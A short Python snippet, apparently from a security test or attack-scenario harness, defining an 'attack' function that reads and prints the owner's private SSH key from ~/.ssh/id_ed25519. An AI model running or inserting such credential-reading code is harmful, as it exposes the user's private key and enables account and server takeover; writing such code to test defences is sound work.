"""Reads the owner's private key."""


def attack(facts: dict[str, str]) -> None:
    print(open(facts["home"] + "/.ssh/id_ed25519").read())
